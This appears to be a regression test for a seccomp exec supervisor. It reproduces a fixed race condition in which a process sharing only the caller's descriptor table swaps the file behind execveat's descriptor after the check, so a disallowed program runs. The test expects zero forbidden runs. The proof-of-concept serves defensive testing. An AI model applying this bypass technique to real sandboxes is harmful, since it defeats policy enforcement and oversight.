# Attack (review 4, fixed): an exec through a descriptor is judged on the file the descriptor named at the check,
# and a process sharing only the caller's descriptor table (clone(CLONE_FILES) without CLONE_VM or
# CLONE_FS) is neither stopped by the exec freeze (continue_exec asks kcmp about KCMP_VM and
# KCMP_FS only) nor seen by the re-check (continue_unchanged compares the raw call: the dirfd
# number, not what it refers to). Here such a process keeps dup2()ing /usr/bin/id and
# /usr/bin/echo onto the same descriptor while the caller runs
# execveat(fd, "", ["echo", "hello"], AT_EMPTY_PATH): the supervisor allows "echo hello" and the
# kernel runs /usr/bin/id, a program no rule allows. The swap is timed from the caller's seccomp
# wait (a large environment makes the supervisor's reading of the call, and so the time between its
# check and its continue, a few hundred ms; SWAP_AFTER, argv[3], is tuned for the debug build on a
# two-core VM). Mode "still" is the control (no dup2).
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 180, "stdout": ["forbidden_ran=0 "]}
import ctypes
import os
import select
import sys
import time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_FILES, SIGCHLD, AT_EMPTY_PATH = 0x400, 17, 0x1000
MODE = sys.argv[1] if len(sys.argv) > 1 else "race"
ATTEMPTS = int(sys.argv[2]) if len(sys.argv) > 2 else 16
SWAP_AFTER = float(sys.argv[3]) if len(sys.argv) > 3 else 0.42
ENV_COPIES = int(os.environ.get("R4_ENV", "200000"))


def attempt():
    r_out, w_out = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.setpgid(0, 0)
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
        if hard == resource.RLIM_INFINITY or hard >= 64 << 20:
            resource.setrlimit(resource.RLIMIT_STACK, (64 << 20, hard))
        os.dup2(w_out, 1)
        os.dup2(w_out, 2)
        echo = os.open("/usr/bin/echo", os.O_RDONLY)
        other = os.open("/usr/bin/id", os.O_RDONLY)
        slot = os.dup(echo)
        stat = os.open("/proc/self/task/%d/stat" % os.getpid(), os.O_RDONLY)
        if MODE == "race":
            f = libc.syscall(56, ctypes.c_ulong(CLONE_FILES | SIGCHLD), None, None, None, None)
            if f == 0:
                # Once the caller has slept in its seccomp wait for SWAP_AFTER seconds (its exec
                # judged, the freeze and re-check still under way), point the descriptor at id.
                since = last = swapped = None
                end = time.monotonic() + 10
                while time.monotonic() < end:
                    st = os.pread(stat, 512, 0)
                    st = st[st.rindex(b")") + 2:st.rindex(b")") + 3]
                    now = time.monotonic()
                    if st == b"S" and since is None:
                        since = now
                    elif st != b"S":
                        since = None
                    if since is not None and now - since >= SWAP_AFTER and not swapped:
                        os.dup2(other, slot)
                        swapped = now - since
                    if since is None and swapped is not None:
                        break
                    last = since
                if os.environ.get("R4_VERBOSE"):
                    os.write(2, b"[F: swapped at %.3f, wait lasted %.3f]" % (swapped or -1, now - (last or now)))
                os._exit(0)
        # Every string in private anonymous memory (the heap), so that only the tasks sharing
        # the caller's memory or cwd are stopped (no whole-tree freeze).
        empty = ctypes.create_string_buffer(b"")
        w0, w1 = ctypes.create_string_buffer(b"echo"), ctypes.create_string_buffer(b"hello")
        argv = (ctypes.c_void_p * 3)(ctypes.addressof(w0), ctypes.addressof(w1), None)
        # A large environment (one short string, many times) makes the supervisor's reading of
        # the call long, and with it the time between the check and the continue.
        envp = (ctypes.c_void_p * (ENV_COPIES + 1))()
        a1 = ctypes.create_string_buffer(b"A=1")
        envp[:ENV_COPIES] = [ctypes.addressof(a1)] * ENV_COPIES
        libc.syscall(322, slot, ctypes.c_void_p(ctypes.addressof(empty)), argv, envp, AT_EMPTY_PATH)
        os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
        os._exit(1)
    os.close(w_out)
    return output_until(r_out, pid, 4, first_line=False, group=True)


errnos = set()
counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
t0 = time.time()
for _ in range(ATTEMPTS):
    out = attempt()
    if os.environ.get("R4_VERBOSE"):
        print(out[:300])
    # /usr/bin/id with the operands "hello": "id: 'hello': no such user" (argv[0] is "echo").
    if b"uid=" in out or b"no such user" in out:
        counts["forbidden"] += 1
    elif b"hello" in out:
        counts["hello"] += 1
    elif b"EXECVE-FAILED" in out:
        counts["failed"] += 1
        errnos.add(out.strip().decode())
    else:
        counts["other"] += 1
        if counts["other"] <= 3:
            print("other sample:", out[:600])
    if time.time() - t0 > 60:
        break
print(f"mode={MODE} attempts={sum(counts.values())} forbidden_ran={counts['forbidden']} "
      f"hello={counts['hello']} execve_failed={counts['failed']} other={counts['other']} "
      f"secs={time.time() - t0:.1f} {sorted(errnos)}")
